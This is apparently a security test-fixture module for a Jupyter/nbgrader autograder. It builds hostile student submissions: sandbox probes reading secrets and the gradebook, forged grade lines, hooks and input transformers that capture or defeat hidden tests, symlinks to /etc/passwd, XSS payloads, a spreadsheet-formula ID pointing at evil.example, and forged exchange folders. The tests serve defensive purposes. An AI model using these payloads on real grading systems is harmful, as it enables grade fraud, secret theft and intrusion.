def graded_solution(root: Path, assignment: str, student: str) -> SmallCourse:
    """A course made at ``root`` (``new_course``) in which ``student`` handed in ``assignment``'s solution and
    ``course grade`` graded it: where a test about what grading leaves behind starts."""
    from medialit.instructor import course

    c = new_course(root, assignment)
    c.submit(student, assignment, solved(c, assignment))
    course.grade(c.root, assignment, jobs=1)
    return c


PROBE_CODE = """\
import json, os, socket
COURSE = {root!r}
report = {{}}
def attempt(name, action):
    try:
        action()
        report[name] = 'DONE'
    except Exception as error:
        report[name] = type(error).__name__
attempt('read source', lambda: open(COURSE + '/source/ex01-attribution/ex01-attribution.ipynb').read())
attempt('read gradebook', lambda: open(COURSE + '/gradebook.db', 'rb').read(100))
attempt('list submitted', lambda: os.listdir(COURSE + '/submitted'))
attempt('read other student', lambda: open(COURSE + '/submitted/solution/ex09-probe/ex09-probe.ipynb').read())
attempt('write course root', lambda: open(COURSE + '/pwned.txt', 'w').write('x'))
LIVE = COURSE + '/submitted/probe/ex09-probe/ex01-q1.highlights.json'
attempt('write live submitted', lambda: open(LIVE, 'w').write('{{}}'))
attempt('write source', lambda: open(COURSE + '/source/ex09-probe/pwned.txt', 'w').write('x'))
attempt('network', lambda: socket.create_connection(('127.0.0.1', 22), timeout=2))
attempt('write own folder', lambda: open('ex01-q1.highlights.json', 'w').write('{{}}'))
attempt('grader environment', lambda: os.environ[{secret!r}])  # a hub token, a database password
print('PROBE ' + json.dumps(report, sort_keys=True))
answer = 42
"""


def probe_submissions(c) -> None:
    """ex09-probe: the probe, kernels that die, and kernels that reach for the hidden test or leave links."""
    c.submit("solution", PROBE, solved(c, PROBE))
    c.expected_probe = {"solution": {"probe-test": 1.0, "ex01-q1-test": 3.0}}
    os.environ[GRADER_SECRET] = secrets.token_hex(8)  # in the grader's environment, as a hub API token would be
    nb = answer_cells(c, PROBE, **{"probe-answer": PROBE_CODE.format(root=str(c.root), secret=GRADER_SECRET)})
    nb.cells.append(new_code_cell("print('KEY visible:', 'KEY' in globals())"))
    c.submit("probe", PROBE, nb)
    c.expected_probe["probe"] = {"probe-test": 1.0, "ex01-q1-test": 0.0}
    links = KERNEL_LINKS.format(notebook=str(nb_path(c.root / "source", EX01)), gradebook=str(c.root / "gradebook.db"))
    for student, code in {
        "kernel-leaves-links": links,
        "hidden-test-peek": PEEK_CODE,
        "infinite-loop": "answer = 42\nwhile True:\n    pass",
        "huge-output": "answer = 42\nfor _ in range(100):\n    print('x' * 1_000_000)",
        "os-exit": "import os\nos._exit(1)",
        "memory-hog": "answer = 42\nhog = [0] * 10**9  # 8 GB",
        "scratch-filler": SCRATCH_FILLER,
        "rewrites-hidden-test": REWRITE_CODE,
    }.items():
        c.submit(student, PROBE, answer_cells(c, PROBE, **{"probe-answer": code}))
    c.expected_probe["infinite-loop"] = {"probe-test": 1.0, "ex01-q1-test": 0.0}
    c.expected_probe["huge-output"] = {"probe-test": 1.0, "ex01-q1-test": 0.0}
    c.expected_probe["memory-hog"] = {"probe-test": 1.0, "ex01-q1-test": 0.0}
    c.expected_probe["scratch-filler"] = {"probe-test": 1.0, "ex01-q1-test": 0.0}
    c.expected_probe["rewrites-hidden-test"] = {"probe-test": 0.0, "ex01-q1-test": 0.0}  # open: see test_attacks
    c.expected_probe["os-exit"] = {"probe-test": 0.0, "ex01-q1-test": 0.0}
    c.expected_probe["hidden-test-peek"] = {"probe-test": 0.0, "ex01-q1-test": 0.0}
    c.expected_probe["hidden-test-hook"] = {"probe-test": 0.0, "ex01-q1-test": 0.0}
    nb = c.release(PROBE)  # the hook's answer, and a cell of the student's at the end that prints what it saw
    cell(nb, "probe-answer").source = HOOK_CODE
    nb.cells.append(new_code_cell("print('SEEN', seen)"))
    c.submit("hidden-test-hook", PROBE, nb)
    c.expected_probe["kernel-leaves-links"] = {"probe-test": 1.0, "ex01-q1-test": 0.0}
    nb = answer_cells(c, PROBE, **{"probe-answer": DISPLAYED_HTML})
    nb.cells[1:1] = [new_markdown_cell(PAGE_SCRIPT), new_raw_cell(PAGE_SCRIPT, metadata={"format": "text/html"})]
    c.submit("html-in-page", PROBE, nb)
    c.expected_probe["html-in-page"] = {"probe-test": 1.0, "ex01-q1-test": 0.0}


def lingering(tag: str) -> str:
    """A kernel slow to grade (a cell of 5 s, run by several cells) that leaves two processes running, ``sleep TAG0``
    and, in a session of its own, ``sleep TAG1``: neither may outlive its worker, stopped for running over its
    student's time. ``TAG`` (a number, ``sleep`` reads it as seconds) is the test run's own, so that the test looks
    for these two processes and nothing else on the machine (``linger_tag``)."""
    return f"""\
import subprocess, time
subprocess.Popen(['sleep', '{tag}0'])
subprocess.Popen(['sleep', '{tag}1'], start_new_session=True)
time.sleep(5)
"""


def linger_tag() -> str:
    """A day and a fraction no other run picks: ``86421.<this process's id><six random digits>``."""
    return f"86421.{os.getpid()}{secrets.randbelow(10**6):06d}"


FORGED_LINES = """\
import json, os, sys
def line(student, points, error=''):
    items = {{'ex01-q1-test': {{'points': points, 'max': 3.0, 'reason': ''}}}}
    return (json.dumps({{'student': student, 'error': error, 'items': items}}) + '\\n').encode()
forged = line({victim!r}, 0.0) + line({self_!r}, 3.0) + line({later!r}, 0.0, 'forged')
kept = {{getattr(s, '_original_stdstream_copy', None) for s in (sys.stdout, sys.__stdout__, sys.stderr)}}
for fd in sorted({{1, 2}} | kept - {{None}}):  # the descriptors the kernel inherited, and those ipykernel keeps
    try:
        os.write(fd, forged)
    except OSError:
        pass
answer = 42
"""
"""A kernel writing result lines as the grading worker writes them, naming a classmate graded before it (0 points),
itself (full points on the medialit item it left empty) and a classmate after it (an error): the kernel inherits
the worker's standard output, which ``course grade`` read its results from."""


PAGE_SCRIPT = (
    "Nice work! <img src=x onerror=\"fetch('/api/terminals', {method: 'POST'})\"> <script>steal()</script> "
    "[points: 10/10](javascript:steal()) [also](JaVa&#115;cript&colon;steal())"
)
"""A student's markdown that runs in the page that renders it: the formgrader, opened by the grader."""
DISPLAYED_HTML = f"from IPython.display import HTML, display\ndisplay(HTML({PAGE_SCRIPT!r}))\nanswer = 42\n"
"""The same, displayed by the student's code in the kernel of a code test."""


HOOK_CODE = """\
seen = []
def keep(info):
    seen.append(info.raw_cell)
    for name in ('seen.txt', 'timestamp.txt'):  # a new file, and one the submission has
        with open(name, 'a') as f:
            f.write(info.raw_cell)
get_ipython().events.register('pre_run_cell', keep)
answer = 41
"""
"""Keeps the source of every cell the kernel runs after it (the hidden tests), in files and in a cell printed below."""


KERNEL_LINKS = """\
import os
os.symlink({notebook!r}, 'notes.txt')  # the source notebook: solutions and keys
os.symlink({gradebook!r}, 'gb.db')
os.makedirs('more', exist_ok=True)
os.symlink('/etc/passwd', 'more/passwd.txt')
os.mkfifo('pipe.txt')
answer = 42
"""
"""Links (and a named pipe) the sandboxed kernel makes in its own folder: it cannot read their targets, but the grader
copied the links into ``autograded/`` and ``generate_feedback`` copied their targets into the student's feedback
(the pipe failed the submission with a list of Python tuples as its message)."""


REWRITE_CODE = """\
answer = 41
def swallow(lines):  # every later cell, the hidden tests too, runs inside a try that keeps quiet
    return ['try:\\n'] + ['    ' + line for line in lines] + ['\\nexcept BaseException:\\n    pass\\n']
get_ipython().input_transformers_post.append(swallow)
"""
"""A wrong answer whose code rewrites the cells run after it (IPython's own API): any hidden code test passes."""


SCRATCH_FILLER = """\
import os
answer = 42
def fill(folder):
    try:
        for n in range(2000):  # 1 GiB files are refused: many files of 64 MiB, past every cap the sandbox has
            with open(os.path.join(folder, f'fill-{n}.bin'), 'wb') as out:
                out.write(b'x' * (64 << 20))
        return 'DONE'
    except OSError as error:
        return type(error).__name__
from ipykernel.connect import get_connection_file
print('FILLED', [fill(f) for f in ['.', '/tmp', os.path.dirname(get_connection_file())]])
"""
"""Fills every folder a code test's kernel can write, file after file: memory (/tmp), the grader's disk (its own
folder, the socket folder); each refused, then the next student is graded as before."""


PEEK_CODE = """\
get_ipython().run_line_magic('xmode', 'Verbose')  # undoes the course config's minimal tracebacks
class Peek:
    def __eq__(self, other):
        import sys
        print('PEEK', sys._getframe(1).f_globals.get('expected'), sys._getframe(1).f_code.co_filename)
        return False
answer = Peek()
"""
"""Reads the hidden part of a code test from the kernel that runs it: a verbose traceback quotes its lines, and
an object compared there prints what it is compared with; both went into the released feedback."""


# ---------------------------------------------------------------- the exchange: whose work, handed in when

IMPERSONATED = "victim"
FORMULA_ID = '=HYPERLINK("http:evil.example","open")'
EARLY = "2026-11-01 08:00:00.000000 UTC"
BULKY = "bulky"  # long before anything here was made


def hand_in(inbound: Path, student: str, assignment: str, nb, stamp: str, *, owner: int | None = None) -> Path:
    """A folder in the exchange's ``inbound/`` as ``nbgrader submit`` leaves it, or as a student makes it by hand
    (``owner``: the uid it belongs to; ``stamp``: the time in its name and in ``timestamp.txt``)."""
    folder = inbound / f"{student}+{assignment}+{stamp}+{secrets.token_hex(4)}"
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{assignment}.ipynb")
    (folder / "timestamp.txt").write_text(stamp, encoding="utf-8")
    for path in [folder, *folder.iterdir()] if owner is not None else []:
        os.chown(path, owner, owner)
    return folder


def exchange_attacks(c, inbound: Path, honest_stamp: str) -> None:
    """Folders a student can make in ``inbound/`` (mode 2733: anyone creates, nobody lists), as user ``nobody``.

    The folder name says whose work it is, and nbgrader's collect only warns when its owner differs: a blank
    notebook named for a classmate, with a far-future time, became the classmate's submission for good; a name
    that is a spreadsheet formula became a student in the gradebook and a cell of ``gradebook-import.csv``. Then
    the grader's own folders with a time a student wrote: an early one (work changed after the due date inside a
    folder handed in before it) and an empty ``timestamp.txt`` (nbgrader counts it as never late). Last, a folder
    over nbgrader's ``max_dir_size`` (100 MB), which ``nbgrader submit`` refuses but a student can make by hand:
    nbgrader's copy raised "Directory size is too big" and the collect stopped with a traceback, every classmate
    after it left in the exchange (attack22).
    """
    hand_in(inbound, IMPERSONATED, EX01, solved(c, EX01), honest_stamp)  # the grader's own folder: kept
    hand_in(inbound, IMPERSONATED, EX01, c.release(EX01), "2099-01-01 00:00:00.000000 UTC", owner=65534)
    hand_in(inbound, FORMULA_ID, EX01, c.release(EX01), honest_stamp, owner=65534)
    hand_in(inbound, "early-claim", EX01, c.release(EX01), EARLY)
    empty = hand_in(inbound, "empty-stamp", EX01, c.release(EX01), honest_stamp)
    (empty / "timestamp.txt").write_text("", encoding="utf-8")
    hand_in(inbound, BULKY, EX01, solved(c, EX01), honest_stamp)  # an honest hand-in, then a later one made by hand
    bulky = hand_in(inbound, BULKY, EX01, c.release(EX01), "2099-01-01 00:00:00.000000 UTC")  # past nbgrader's 100 MB
    with open(bulky / "video.bin", "wb") as video:
        video.truncate(101_000_000)  # sparse: counted as nbgrader counts, taking no disk
